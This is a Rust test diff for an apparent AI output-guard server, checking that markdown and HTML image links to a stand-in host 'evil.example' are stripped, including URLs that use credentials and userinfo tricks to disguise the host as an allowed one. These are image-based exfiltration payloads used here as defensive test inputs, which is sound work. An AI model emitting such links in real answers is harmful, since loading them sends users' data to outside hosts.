@@ -537,3 +537,27 @@ async fn what_only_the_model_says_is_masked_for_good() {
         assert_eq!(content(&server.answer(&ask("echo", said)).await), expected);
     }
 }
+
+#[tokio::test]
+async fn what_placeholders_stand_for_leads_nowhere() {
+    let policy = "[pii]\nstyle = 'reversible'\n[secrets]\npre_call = 'off'\npost_call = 'off'
+                  [output]\nallowed_hosts = ['good.example']";
+    let (server, _dir) = guarded(policy).await;
+    for said in [
+        "![a](https://u:pw@evil.example/p.png?d=1)",
+        "![a]( https://u:pw@evil.example/p.png?d=1)",
+        "<img src=\"https://u:pw@evil.example/p.png?d=1\">",
+        "![a](https://good.example:jane@evil.example/p.png?d=1)",
+        "<img src='https://good.example:jane@evil.example/p.png?d=1'>",
+        "![a](<https://good.example jane@evil.example/p.png?d=1>)",
+    ] {
+        let answer = server.answer(&ask("echo", said)).await;
+        assert!(!content(&answer).contains("@evil.example"), "{answer}");
+        let (stream, ..) = streamed(&server, "echo", said).await;
+        assert_eq!(content(&answer), stream);
+    }
+    let kind = "Jane Doe <jane@example.org>, [her](mailto:jane@example.org) or jane@example.org.";
+    assert_eq!(content(&server.answer(&ask("echo", kind)).await), kind);
+    let (stream, ..) = streamed(&server, "echo", kind).await;
+    assert_eq!(stream, kind);
+}
